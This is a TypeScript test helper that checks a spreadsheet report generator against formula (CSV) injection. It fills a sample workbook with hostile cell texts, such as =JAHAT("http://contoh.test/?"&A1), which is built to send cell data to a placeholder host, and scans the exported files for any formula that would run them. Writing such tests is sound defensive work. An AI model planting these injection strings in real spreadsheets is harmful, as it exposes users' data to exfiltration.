/** A workbook whose texts would all like to be formulas, and every sheet that is ever planned of one. */

import { strFromU8, unzipSync } from 'fflate';

import { alignLevels } from '../src/core/compare/levels/align-levels';
import { compareDocuments } from '../src/core/compare/documents/compare-documents';
import { compareVersions } from '../src/core/compare/versions/compare-versions';
import { FORMS } from '../src/core/forms/catalogue';
import { fillForm } from '../src/core/forms/fill';
import { manualOfTables } from '../src/core/forms/library-cards';
import { fileSettings } from '../src/core/own-choices';
import { comparisonSheets } from '../src/core/report/comparison-sheets';
import { documentSheets } from '../src/core/report/documents-sheets';
import { dashboard } from '../src/core/report/dashboard';
import { findingsSheet } from '../src/core/report/findings-sheet';
import { performanceReport } from '../src/core/report/performance-report';
import { recap } from '../src/core/report/recap/recap';
import { recapOf } from '../src/core/report/recap/recap-file';
import { relationSheets } from '../src/core/report/relation-sheets';
import { type Review, review } from '../src/core/review';
import { DEFAULT_SETTINGS } from '../src/core/settings';
import { type CellValue, type SheetGrid } from '../src/core/sheet/grid';
import { type SheetPlan } from '../src/core/sheet/plan';
import { unescapeXml } from '../src/core/xml-text';

/** Stands in every hostile text, and in nothing that we write of our own. */
export const MARK = 'JAHAT';

/** How a text begins that Excel would take for a formula, a number, a date or an instruction. */
export const BEGINNINGS = ['=', '+', '-', '@', '\t=', "'=", '\u200b=', '"&', '{='];

export const SHEET_NAME = `=${MARK}'"&x`;

/** A table with something to find in every row; all its words are hostile, those of its header behind what they are known by. */
export function hostileRows(beginnings: readonly string[]): CellValue[][] {
  const header = [
    ...['No', 'Sasaran', 'Indikator Kinerja', 'Satuan', 'Target 2023', 'Target 2024', 'Realisasi 2024'],
    ...['Capaian (%)', 'Predikat', 'Rumus Perhitungan', 'Sumber Data', 'Penanggung Jawab', 'Keterangan'],
  ].map((label) => (label.includes(' ') ? `${label} (=${MARK}())` : label));
  return [header, ...beginnings.flatMap((begin) => rowsOf(begin, header.length))];
}

function rowsOf(begin: string, width: number): CellValue[][] {
  const words = (text: string) => `${begin}${MARK}("http://contoh.test/?"&A1)&"${text}"`;
  const row = (name: string, unit: string, target: CellValue, rating: string): CellValue[] => [
    ...[1, words('Meningkatnya mutu layanan'), words(name), unit, target, target, 60, 90, rating],
    ...[words('layanan tuntas / seluruh layanan'), words('Laporan'), words('Bidang'), words('catatan')],
  ];
  return [
    row('Prosentase layanan tuntas', '%', 80, 'Rendah'),
    row('Jumlah kwalitas arsip', words('Dokumen'), words('25 Dokumen'), words('Tinggi')),
    Array.from({ length: width }, () => ''),
    row('Prosentase aduan selesai', '%', '97.5', 'Tinggi'),
    row('Prosentase aduan selesai', words('%'), '80 %', words('Tinggi')),
  ];
}

export interface NamedPlan {
  readonly name: string;
  readonly plan: SheetPlan;
}

/** Every kind of sheet that can be made of reviewed sheets. */
export function everyPlan(grids: readonly SheetGrid[]): readonly NamedPlan[] {
  const result = review(grids);
  const options = { language: 'id', date: `=${MARK}(1)` } as const;
  return [
    ...formsOf(result),
    ...named('temuan', [findingsSheet(result, { ...options, sheets: grids })]),
    ...named('laporan', performanceReport(result.tables, DEFAULT_SETTINGS, options)),
    ...named('dasbor', [dashboard(result.tables, DEFAULT_SETTINGS, options)]),
    ...named('rekap', recapPlans(grids, result)),
    ...named('banding', comparisonPlans(grids, result)),
    ...named('antardokumen', documentPlans(grids, result)),
    ...named(
      'selaras',
      relationSheets(
        FILE_NAME,
        [{ file: FILE_NAME, alignment: alignLevels(result.tables, [...result.tables].reverse()) }],
        'id',
      ),
    ),
  ];
}

const FILE_NAME = `=${MARK}("x").xlsx`;

const named = (name: string, plans: readonly SheetPlan[]): readonly NamedPlan[] =>
  plans.map((plan) => ({ name: `${name}: ${plan.name}`, plan }));

/** Texts of a profile go into cells as they are. */
const HOSTILE_AGENCY = {
  organisation: `=${MARK}()`,
  place: `=${MARK}(1)`,
  headName: `+${MARK}()`,
  superiorTitle: `=${MARK}`,
};

function formsOf({ tables }: Review): readonly NamedPlan[] {
  const options = { rows: 3, level: 'dinas', language: 'id', years: { from: 2023, to: 2024 } } as const;
  const forms = tables.flatMap((table) =>
    FORMS.flatMap((form) =>
      (['iku', 'native'] as const).flatMap((formulas) => {
        const { plan, statement } = fillForm(form.id, table, { ...options, formulas, agency: HOSTILE_AGENCY });
        return statement ? [statement, plan] : [plan];
      }),
    ),
  );
  return [
    ...named('formulir', forms),
    ...named('kartu', [manualOfTables(tables, 'one', { ...options, formulas: 'iku' })]),
  ];
}

function recapPlans(grids: readonly SheetGrid[], result: Review): readonly SheetPlan[] {
  const settings = fileSettings(DEFAULT_SETTINGS, grids, result);
  const file = recapOf(FILE_NAME, { sheets: grids, review: result, settings, failures: [`=${MARK}()`] }, 'id');
  const unread = { kind: 'unreadable', name: FILE_NAME, reason: `=${MARK}()` } as const;
  return recap([file, { ...file, agency: `=${MARK}()` }, unread], {
    language: 'id',
    date: `=${MARK}(1)`,
    pathOf: (name) => name,
  });
}

function comparisonPlans(grids: readonly SheetGrid[], now: Review): readonly SheetPlan[] {
  return comparisonSheets(compareVersions(withOther(60, grids), now), { old: FILE_NAME, now: FILE_NAME }, 'id');
}

function documentPlans(grids: readonly SheetGrid[], now: Review): readonly SheetPlan[] {
  const documents = [withOther(80, grids), now, withOther('%', grids)];
  return documentSheets(compareDocuments(documents.map(({ tables }) => ({ name: FILE_NAME, tables }))), 'id');
}

/** The same workbook with another word or figure in the cells that hold this one. */
function withOther(old: CellValue, grids: readonly SheetGrid[]): Review {
  const other = typeof old === 'number' ? old + 1 : `=${MARK}()`;
  const change = (value: CellValue) => (value === old ? other : value);
  return review(grids.map((grid) => ({ ...grid, values: grid.values.map((row) => row.map(change)) })));
}

/** What a formula does, without the texts that it shows: `=HYPERLINK("…","…")` says where to go, and runs nothing of it. */
export function withoutTexts(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, "''!");
}

/** Formulas, links, names and charts of a file that run a word of somebody's. */
export function runningInFile(bytes: Uint8Array): string[] {
  return Object.entries(unzipSync(bytes)).flatMap(([path, part]) => {
    const xml = strFromU8(part);
    const running = [...xml.matchAll(/<(?:\w+:)?(?:f|formula[12]|definedName)(?: [^>]*)?>([^<]*)</g)].filter(
      ([, formula = '']) => withoutTexts(unescapeXml(formula)).includes(MARK),
    );
    const links = path.endsWith('.rels') && xml.includes(MARK) ? [`${path}: a link`] : [];
    return [...running.map(([all]) => `${path}: ${all}`), ...links];
  });
}
